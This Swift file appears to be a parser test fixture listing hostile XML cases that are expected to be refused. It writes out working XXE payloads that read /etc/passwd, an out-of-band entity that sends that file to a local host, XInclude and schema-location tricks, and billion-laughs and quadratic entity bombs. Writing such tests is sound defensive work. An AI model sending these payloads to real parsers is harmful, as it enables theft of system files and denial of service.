/// Entities, definitions and other files that a document may name.
extension XMLFrame {
  var entityCases: [HostileCase] {
    Self.doctypes.map { name, doctype in
      HostileCase(name, "xml-doctype", line: 2, text: document(before: doctype + "\n", "&x;"))
    } + [
      HostileCase(
        "a DOCTYPE far down", "xml-doctype", line: 5,
        text: document(before: "<!-- a\n\n-->\n<!DOCTYPE a>")),
      HostileCase(
        "a DOCTYPE after the root", "xml-doctype", line: 6,
        text: document("") + "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>"),
      HostileCase(
        "a DOCTYPE in UTF-16", "xml-doctype", line: 2,
        bytes: { utf16(document(before: "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>\n")) }),
      HostileCase(
        "an entity nobody defined, in text", "xml-entity", line: 5, text: document("\n&xxe;")),
      HostileCase(
        "an entity nobody defined, in an attribute", "xml-entity", line: 4,
        text: document("<x y='&xxe;'/>")),
      HostileCase(
        "a parameter entity in text", unknownElement, line: 4, text: document("<x>%x;</x>")),
      HostileCase(
        "a definition outside a DOCTYPE", "xml-not-well-formed", line: 4,
        text: document("<!ENTITY x SYSTEM 'file:///etc/passwd'>")),
    ] + outsideCases
  }

  /// Files that a document names without a DOCTYPE. Nothing is opened; what is not of the format is
  /// refused.
  private var outsideCases: [HostileCase] {
    let includes = [
      ("XInclude of a file", "file:///etc/passwd", "xml"),
      ("XInclude of text", "/etc/passwd", "text"),
      ("XInclude from the network", "http://127.0.0.1:9/a.xml", "xml"),
    ].map { name, place, parse in
      HostileCase(
        name, unknownElement, line: 4,
        text: document(
          "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='\(place)' parse='\(parse)'/>")
      )
    }
    let schemas = ["file:///etc/passwd", "http://127.0.0.1:9/a.xsd", "../../../../etc/passwd"]
      .flatMap { place in
        [
          "xsi:schemaLocation='urn:coalition:donor-offers:1 \(place) urn:coalition:plan:1 \(place)'",
          "xsi:noNamespaceSchemaLocation='\(place)'",
        ].map { attribute in
          HostileCase(
            "a schema at \(place)", unknownElement, line: 4,
            text: document("<x/>").replacing(
              " xmlns=",
              with: " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' \(attribute) xmlns="))
        }
      }
    let instructions = ["xml-stylesheet type='text/xsl'", "xml-model", "oasis-xml-catalog"].map {
      HostileCase(
        "the instruction \($0)", unknownElement, line: 4,
        text: document("<x/>").replacing(
          Self.declaration,
          with: "<?xml version=\"1.0\"?><?\($0) href='file:///etc/passwd' catalog='/etc/passwd'?>\n"
        ))
    }
    return includes + schemas + instructions
  }

  private static let doctypes: [(String, String)] = [
    ("a billion laughs", "<!DOCTYPE a [\(bomb)]>"),
    (
      "a quadratic bomb",
      "<!DOCTYPE a [<!ENTITY x '\(repeated("x", 50_000))'>]>"
    ),
    ("entities that name each other", "<!DOCTYPE a [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>"),
    (
      "a bomb of parameter entities",
      "<!DOCTYPE a [<!ENTITY % a 'x'><!ENTITY % b '%a;%a;%a;'><!ENTITY % c '%b;%b;%b;'> %c;]>"
    ),
    ("an entity in a file", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
    ("an entity on the network", "<!DOCTYPE a [<!ENTITY x SYSTEM 'http://127.0.0.1:9/x'>]>"),
    ("an entity of a device", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///dev/zero'>]>"),
    (
      "an entity known to the public",
      "<!DOCTYPE a [<!ENTITY x PUBLIC '-//W3C//ENTITIES//EN' 'file:///etc/passwd'>]>"
    ),
    ("a parameter entity in a file", "<!DOCTYPE a [<!ENTITY % x SYSTEM '/etc/passwd'> %x;]>"),
    (
      "a file sent to the network",
      "<!DOCTYPE a [<!ENTITY % f SYSTEM 'file:///etc/passwd'>"
        + "<!ENTITY % e '<!ENTITY &#37; s SYSTEM \"http://127.0.0.1:9/?%f;\">'> %e; %s;]>"
    ),
    ("a definition in a file", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>"),
    ("a definition on the network", "<!DOCTYPE a SYSTEM 'http://127.0.0.1:9/a.dtd'>"),
    (
      "a definition known to the public",
      "<!DOCTYPE a PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'http://www.w3.org/xhtml1.dtd'>"
    ),
    ("an attribute by default", "<!DOCTYPE a [<!ATTLIST a b CDATA 'c'>]>"),
    ("a notation", "<!DOCTYPE a [<!NOTATION n SYSTEM '/bin/sh'><!ENTITY x SYSTEM 'a' NDATA n>]>"),
    ("a definition that is not closed", "<!DOCTYPE a [<!ENTITY x 'y'>"),
    ("nothing bad at all", "<!DOCTYPE a>"),
  ]

  private static let bomb =
    "<!ENTITY a 'ha'>"
    + zip("abcdefghi", "bcdefghij").map { inner, outer in
      "<!ENTITY \(outer) '\(repeated("&\(inner);", 10))'>"
    }.joined() + "<!ENTITY x '&j;'>"
}

/// A document in UTF-16, low byte first, with a byte order mark.
func utf16(_ document: String) -> [UInt8] {
  "\u{FEFF}\(document.replacing("UTF-8", with: "UTF-16"))".utf16
    .flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
}
